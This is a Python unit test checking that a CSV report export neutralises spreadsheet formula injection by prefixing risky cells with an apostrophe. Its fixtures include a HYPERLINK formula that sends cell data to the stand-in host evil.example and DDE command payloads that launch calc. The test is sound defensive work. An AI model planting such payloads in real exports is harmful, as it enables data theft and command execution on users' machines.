"""CSV exports never carry a formula a spreadsheet would run (a caller or an agent can name themselves one)."""

from __future__ import annotations

import csv
import io


from agent_ui.api.reports import table_response


def test_cells_that_would_run_as_formulas_are_written_as_text() -> None:
    rows = [
        {"agent": '=HYPERLINK("http://evil.example/?"&A1,"click")', "queue": "+cmd|' /C calc'!A0", "calls": -3, "talk_s": 12.5},
        {"agent": "@SUM(1+1)*cmd|' /C calc'!A0", "queue": "\t=1+1", "calls": 4, "talk_s": -0.5},
        {"agent": "王小明", "queue": "-1+1", "calls": 0, "talk_s": 0.0},
    ]
    response = table_response("csv", "agents", {"from": "2026-12-01"}, rows)
    table = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert table[0] == ["agent", "queue", "calls", "talk_s"]
    assert [row[0][0] for row in table[1:3]] == ["'", "'"] and table[1][0] == "'" + rows[0]["agent"]
    assert [table[1][1], table[2][1], table[3][1]] == ["'" + rows[0]["queue"], "'\t=1+1", "'-1+1"]
    assert table[3][0] == "王小明" and [table[1][2], table[2][3]] == ["-3", "-0.5"]  # numbers stay numbers
